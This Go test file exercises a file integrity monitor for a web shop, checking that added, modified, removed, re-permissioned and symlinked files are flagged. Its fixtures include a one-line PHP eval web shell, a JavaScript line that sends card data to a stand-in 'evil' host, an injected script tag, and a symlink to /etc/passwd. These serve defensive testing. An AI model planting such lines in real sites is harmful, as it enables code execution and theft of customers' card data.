package fim

import (
	"bytes"
	"context"
	"crypto/sha256"
	"errors"
	"io/fs"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/skimwatch/skimwatch/internal/finding"
)

func TestVerifyReportsEachKindOfChange(t *testing.T) {
	tests := []struct {
		name   string
		change func(t *testing.T, dir string)
		want   []string
	}{
		{
			name:   "an unchanged tree has no findings",
			change: func(t *testing.T, dir string) {},
			want:   nil,
		},
		{
			name: "a new PHP file is a high added finding",
			change: func(t *testing.T, dir string) {
				writeTree(t, dir, map[string]string{"html/skim.php": "<?php eval($_POST['x']);"})
			},
			want: []string{"high fim.added html/skim.php"},
		},
		{
			name: "a new image is a medium added finding",
			change: func(t *testing.T, dir string) {
				writeTree(t, dir, map[string]string{"html/upload/a.jpg": "jpeg"})
			},
			want: []string{"medium fim.added html/upload/a.jpg"},
		},
		{
			name: "JavaScript with code appended is a high modified finding",
			change: func(t *testing.T, dir string) {
				appendTo(t, filepath.Join(dir, "html/template/default/js/function.js"), ";fetch('//evil/'+card)")
			},
			want: []string{"high fim.modified html/template/default/js/function.js"},
		},
		{
			name: "a changed image is a medium modified finding",
			change: func(t *testing.T, dir string) {
				appendTo(t, filepath.Join(dir, "html/template/default/img/logo.png"), "payload")
			},
			want: []string{"medium fim.modified html/template/default/img/logo.png"},
		},
		{
			name: "a changed Twig template of the payment page is high",
			change: func(t *testing.T, dir string) {
				appendTo(t, filepath.Join(dir, "app/template/default/Shopping/index.twig"), "<script src=//x></script>")
			},
			want: []string{"high fim.modified app/template/default/Shopping/index.twig"},
		},
		{
			name: "a removed script is a medium removed finding and a removed readme low",
			change: func(t *testing.T, dir string) {
				mustRemove(t, filepath.Join(dir, "html/template/default/js/function.js"))
				mustRemove(t, filepath.Join(dir, "README.md"))
			},
			want: []string{"low fim.removed README.md", "medium fim.removed html/template/default/js/function.js"},
		},
		{
			name: "a file made executable is a high mode finding",
			change: func(t *testing.T, dir string) {
				if err := os.Chmod(filepath.Join(dir, "README.md"), 0o755); err != nil {
					t.Fatal(err)
				}
			},
			want: []string{"high fim.mode README.md"},
		},
		{
			name: "a PHP file made world-writable is a medium mode finding",
			change: func(t *testing.T, dir string) {
				if err := os.Chmod(filepath.Join(dir, "index.php"), 0o646); err != nil {
					t.Fatal(err)
				}
			},
			want: []string{"medium fim.mode index.php"},
		},
		{
			name: "a PHP file given to another owner is a medium owner finding",
			change: func(t *testing.T, dir string) {
				if os.Geteuid() != 0 {
					t.Skip("changing a file's owner needs root")
				}
				if err := os.Lchown(filepath.Join(dir, "index.php"), 4242, 4242); err != nil {
					t.Fatal(err)
				}
			},
			want: []string{"medium fim.owner index.php"},
		},
		{
			name: "changes in excluded cache and log paths are ignored",
			change: func(t *testing.T, dir string) {
				writeTree(t, dir, map[string]string{
					"var/cache/prod/new.php": "<?php",
					"var/log/other.log":      "x",
					"html/debug.log":         "x",
				})
				mustRemove(t, filepath.Join(dir, "var/cache/prod/annotations.php"))
			},
			want: nil,
		},
		{
			name: "a new symlink out of the root is added and flagged high",
			change: func(t *testing.T, dir string) {
				mustSymlink(t, "/etc/passwd", filepath.Join(dir, "html/pw.txt"))
				mustSymlink(t, "../../../../../etc", filepath.Join(dir, "html/template/etc"))
			},
			want: []string{
				"high fim.symlink-outside html/pw.txt", "high fim.symlink-outside html/template/etc",
				"medium fim.added html/pw.txt", "medium fim.added html/template/etc",
			},
		},
		{
			name: "a symlink loop is recorded without hanging",
			change: func(t *testing.T, dir string) {
				mustSymlink(t, "b", filepath.Join(dir, "html/a"))
				mustSymlink(t, "a", filepath.Join(dir, "html/b"))
				mustSymlink(t, "..", filepath.Join(dir, "html/up"))
			},
			want: []string{"medium fim.added html/a", "medium fim.added html/b", "medium fim.added html/up"},
		},
		{
			name: "a script replaced by a symlink is a high modified finding",
			change: func(t *testing.T, dir string) {
				p := filepath.Join(dir, "html/template/default/js/function.js")
				mustRemove(t, p)
				mustSymlink(t, "../img/logo.png", p)
			},
			want: []string{"high fim.modified html/template/default/js/function.js"},
		},
		{
			name: "a FIFO is recorded and never opened",
			change: func(t *testing.T, dir string) {
				if err := syscall.Mkfifo(filepath.Join(dir, "html/pipe"), 0o644); err != nil {
					t.Skipf("mkfifo: %v", err)
				}
			},
			want: []string{"medium fim.added html/pipe"},
		},
		{
			name: "a file in a new folder is added",
			change: func(t *testing.T, dir string) {
				writeTree(t, dir, map[string]string{"html/new/deep/er/x.js": "x"})
			},
			want: []string{"high fim.added html/new/deep/er/x.js"},
		},
		{
			name: "a file that is not UTF-8 by name is seen",
			change: func(t *testing.T, dir string) {
				writeTree(t, dir, map[string]string{"html/\xff\xfe.php": "<?php"})
			},
			want: []string{"high fim.added html/\xff\xfe.php"},
		},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			dir := t.TempDir()
			writeTree(t, dir, shopTree())
			m := mustBaseline(t, dir, Options{})
			// Round-trip through the file format, as the CLI does.
			m = roundTrip(t, m, nil, nil)
			tc.change(t, dir)
			for _, full := range []bool{false, true} {
				r := mustVerify(t, dir, m, VerifyOptions{Full: full})
				if !r.Complete {
					t.Fatalf("report incomplete: %v", r.Incomplete)
				}
				if got := summary(r); !slices.Equal(got, tc.want) {
					t.Errorf("full=%v findings:\n%s\nwant:\n%s", full, joinLines(got), joinLines(tc.want))
				}
			}
		})
	}
}

func TestBaselineKeepsExistingOutsideLinksLowAtVerify(t *testing.T) {
	dir := t.TempDir()
	writeTree(t, dir, shopTree())
	mustSymlink(t, "/srv/shared/media", filepath.Join(dir, "media"))
	m := mustBaseline(t, dir, Options{})
	if got := m.OutsideLinks(); len(got) != 1 || got[0].Path != "media" {
		t.Fatalf("OutsideLinks = %+v, want the media link", got)
	}
	r := mustVerify(t, dir, m, VerifyOptions{})
	if got, want := summary(r), []string{"low fim.symlink-outside media"}; !slices.Equal(got, want) {
		t.Errorf("findings %v, want %v", got, want)
	}
}

func TestStatCacheDoesNotReadUnchangedFiles(t *testing.T) {
	dir := t.TempDir()
	writeTree(t, dir, shopTree())
	settle()
	m := mustBaseline(t, dir, Options{})
	files := int64(len(m.Entries))

	var c countingOpener
	opts := VerifyOptions{WalkOptions: WalkOptions{Open: c.open}}
	r := mustVerify(t, dir, m, opts)
	if len(r.Findings) != 0 || !r.Complete {
		t.Fatalf("unchanged tree: %v", summary(r))
	}
	if got := c.n.Load(); got != 0 {
		t.Errorf("re-verify of an unchanged tree opened %d files, want 0", got)
	}
	if got := r.Details["files_from_cache"]; got != files {
		t.Errorf("files_from_cache = %v, want %d", got, files)
	}

	appendTo(t, filepath.Join(dir, "index.php"), "// x")
	c.n.Store(0)
	r = mustVerify(t, dir, m, opts)
	if got := c.n.Load(); got != 1 {
		t.Errorf("after one change, verify opened %d files, want 1", got)
	}
	if got, want := summary(r), []string{"high fim.modified index.php"}; !slices.Equal(got, want) {
		t.Errorf("findings %v, want %v", got, want)
	}

	c.n.Store(0)
	opts.Full = true
	mustVerify(t, dir, m, opts)
	if got := c.n.Load(); got != files {
		t.Errorf("--full opened %d files, want all %d", got, files)
	}
}

func TestStatCacheDistrustsFilesWrittenDuringTheBaseline(t *testing.T) {
	dir := t.TempDir()
	writeTree(t, dir, shopTree())
	// No settle(): every file's ctime falls in the racy window.
	m := mustBaseline(t, dir, Options{})
	var c countingOpener
	mustVerify(t, dir, m, VerifyOptions{WalkOptions: WalkOptions{Open: c.open}})
	if got, want := c.n.Load(), int64(len(m.Entries)); got != want {
		t.Errorf("verify opened %d files, want all %d (racily clean entries must be re-read)", got, want)
	}
}

func TestTouchReferenceForgeryIsCaught(t *testing.T) {
	for _, full := range []bool{false, true} {
		name := "by the ctime in the stat cache"
		if full {
			name = "by re-hashing with full"
		}
		t.Run(name, func(t *testing.T) {
			dir := t.TempDir()
			writeTree(t, dir, shopTree())
			p := filepath.Join(dir, "html/template/default/js/function.js")
			settle()
			m := mustBaseline(t, dir, Options{})
			before, err := os.Stat(p)
			if err != nil {
				t.Fatal(err)
			}
			// Same size, different content, then mtime put back: touch -r.
			if err := os.WriteFile(p, []byte("function b(){}"), 0o644); err != nil {
				t.Fatal(err)
			}
			if err := os.Chtimes(p, before.ModTime(), before.ModTime()); err != nil {
				t.Fatal(err)
			}
			r := mustVerify(t, dir, m, VerifyOptions{Full: full})
			if got, want := summary(r), []string{"high fim.modified html/template/default/js/function.js"}; !slices.Equal(got, want) {
				t.Fatalf("findings %v, want %v", got, want)
			}
			if r.Findings[0].Evidence["mtime_unchanged"] != true {
				t.Errorf("evidence %v lacks mtime_unchanged", r.Findings[0].Evidence)
			}
		})
	}
}

func TestPathsThatCannotBeCheckedMakeTheReportIncomplete(t *testing.T) {
	tests := []struct {
		name     string
		opts     func(dir string) WalkOptions
		path     string
		reason   string
		noRemove bool
	}{
		{
			name: "a file that vanishes mid-walk is unverified, not removed",
			opts: func(dir string) WalkOptions {
				return WalkOptions{beforeInspect: func(rel string) {
					if rel == "index.php" {
						os.Remove(filepath.Join(dir, rel))
					}
				}}
			},
			path:   "index.php",
			reason: "vanished during the walk",
		},
		{
			name: "an unreadable file is unverified",
			opts: func(dir string) WalkOptions {
				return WalkOptions{Open: func(name string) (File, error) {
					if strings.HasSuffix(name, "README.md") {
						return nil, &fs.PathError{Op: "open", Path: name, Err: fs.ErrPermission}
					}
					return openNoFollow(name)
				}}
			},
			path:   "README.md",
			reason: "permission denied",
		},
		{
			name: "a file that keeps changing while read is unverified",
			opts: func(dir string) WalkOptions {
				return WalkOptions{Open: func(name string) (File, error) {
					f, err := openNoFollow(name)
					if err == nil && strings.HasSuffix(name, "vendor/autoload.php") {
						return &growingFile{File: f, name: name}, nil
					}
					return f, err
				}}
			},
			path:   "vendor/autoload.php",
			reason: "changed while being read (twice)",
		},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			dir := t.TempDir()
			writeTree(t, dir, shopTree())
			m := mustBaseline(t, dir, Options{})
			r := mustVerify(t, dir, m, VerifyOptions{Full: true, WalkOptions: tc.opts(dir)})
			if r.Complete {
				t.Fatalf("report is complete, want incomplete")
			}
			if err := finding.ExitFor(r, finding.High); err == nil || err.(*finding.ExitError).Code != finding.ExitIncomplete {
				t.Errorf("ExitFor = %v, want exit code 2", err)
			}
			want := []string{"low fim.unverified " + tc.path}
			if got := summary(r); !slices.Equal(got, want) {
				t.Fatalf("findings %v, want %v", got, want)
			}
			if got := r.Findings[0].Evidence["reason"]; got != tc.reason {
				t.Errorf("reason %q, want %q", got, tc.reason)
			}
		})
	}
}

func TestBaselineNotesPathsItCouldNotRecord(t *testing.T) {
	dir := t.TempDir()
	writeTree(t, dir, shopTree())
	m := mustBaseline(t, dir, Options{WalkOptions: WalkOptions{beforeInspect: func(rel string) {
		if rel == "README.md" {
			os.Remove(filepath.Join(dir, rel))
		}
	}}})
	if len(m.Notes) != 1 || m.Notes[0].Path != "README.md" || m.Notes[0].Reason != "vanished during the walk" {
		t.Errorf("notes = %+v, want README.md vanished", m.Notes)
	}
	if _, ok := m.Lookup("README.md"); ok {
		t.Errorf("vanished file recorded")
	}
}

// growingFile appends to the file on disk whenever it is read, as a log
// being written during the walk would.
type growingFile struct {
	File
	name string
}

func (g *growingFile) Read(p []byte) (int, error) {
	n, err := g.File.Read(p)
	appendTo(nil, g.name, "x")
	return n, err
}

func TestVerifyStreamsALargeFile(t *testing.T) {
	if testing.Short() {
		t.Skip("hashes 2 GiB; skipped with -short")
	}
	dir := t.TempDir()
	const size = 2 << 30
	p := filepath.Join(dir, "backup.tar")
	f, err := os.Create(p)
	if err != nil {
		t.Fatal(err)
	}
	// Sparse: no disk space needed, but every byte is still read and hashed.
	if err := f.Truncate(size); err != nil {
		t.Fatal(err)
	}
	f.Close()
	m := mustBaseline(t, dir, Options{})
	e, ok := m.Lookup("backup.tar")
	if !ok || e.Size != size {
		t.Fatalf("entry %+v", e)
	}
	h := sha256.New()
	zero := make([]byte, 1<<20)
	for range size / len(zero) {
		h.Write(zero)
	}
	if !bytes.Equal(e.SHA256[:], h.Sum(nil)) {
		t.Errorf("sha256 of the large file is wrong")
	}
}

func TestManyEmptyFiles(t *testing.T) {
	if testing.Short() {
		t.Skip("creates 100,000 files; skipped with -short (the million is in BenchmarkMillionEmptyFiles)")
	}
	dir := t.TempDir()
	const n = 100_000
	makeEmptyFiles(t, dir, n)
	m := mustBaseline(t, dir, Options{Excludes: []string{}})
	if len(m.Entries) != n || len(m.Notes) != 0 {
		t.Fatalf("baseline has %d entries and %d notes, want %d and 0", len(m.Entries), len(m.Notes), n)
	}
	var buf bytes.Buffer
	if err := WriteManifest(&buf, m, nil); err != nil {
		t.Fatal(err)
	}
	m2, err := ReadManifest(&buf, ReadOptions{})
	if err != nil {
		t.Fatal(err)
	}
	r := mustVerify(t, dir, m2, VerifyOptions{})
	if len(r.Findings) != 0 || !r.Complete {
		t.Errorf("verify of an unchanged tree: %v", summary(r))
	}
}

// makeEmptyFiles spreads n empty files over folders of 1,000, plus one deep
// chain of folders, as a stress for the walk.
func makeEmptyFiles(t testing.TB, dir string, n int) {
	t.Helper()
	for i := range n {
		d := filepath.Join(dir, "d"+itoa(i/1000))
		if i%1000 == 0 {
			if err := os.MkdirAll(d, 0o755); err != nil {
				t.Fatal(err)
			}
		}
		f, err := os.Create(filepath.Join(d, "f"+itoa(i)))
		if err != nil {
			t.Fatal(err)
		}
		f.Close()
	}
}

func itoa(i int) string { return string(appendUint(nil, uint64(i))) }

func TestDeepTreeDoesNotRecurse(t *testing.T) {
	dir := t.TempDir()
	// 300 levels of "a/": deeper than most tools' recursion is comfortable
	// with, within PATH_MAX.
	deep := dir
	for range 300 {
		deep = filepath.Join(deep, "a")
	}
	writeTree(t, deep, map[string]string{"x.php": "<?php"})
	m := mustBaseline(t, dir, Options{})
	if len(m.Entries) != 1 || strings.Count(m.Entries[0].Path, "/") != 300 {
		t.Fatalf("entries %d", len(m.Entries))
	}
}

func TestCancelledBaselineReturnsTheContextError(t *testing.T) {
	dir := t.TempDir()
	writeTree(t, dir, shopTree())
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	if _, err := Baseline(ctx, dir, Options{}); !errors.Is(err, context.Canceled) {
		t.Errorf("err = %v, want context.Canceled", err)
	}
}

func TestProgressIsReported(t *testing.T) {
	dir := t.TempDir()
	writeTree(t, dir, shopTree())
	var last Progress
	calls := 0
	mustBaseline(t, dir, Options{WalkOptions: WalkOptions{ProgressInterval: time.Millisecond, OnProgress: func(p Progress) {
		calls++
		last = p
	}}})
	if calls == 0 || !last.Done || last.Files != 7 {
		t.Errorf("calls %d, last %+v; want a final Done with 7 files", calls, last)
	}
}

func appendTo(t *testing.T, p, s string) {
	f, err := os.OpenFile(p, os.O_APPEND|os.O_WRONLY, 0)
	if err != nil {
		if t != nil {
			t.Fatal(err)
		}
		return
	}
	defer f.Close()
	if _, err := f.WriteString(s); err != nil && t != nil {
		t.Fatal(err)
	}
}

func mustRemove(t *testing.T, p string) {
	t.Helper()
	if err := os.Remove(p); err != nil {
		t.Fatal(err)
	}
}

func mustSymlink(t *testing.T, target, p string) {
	t.Helper()
	if err := os.Symlink(target, p); err != nil {
		t.Fatal(err)
	}
}
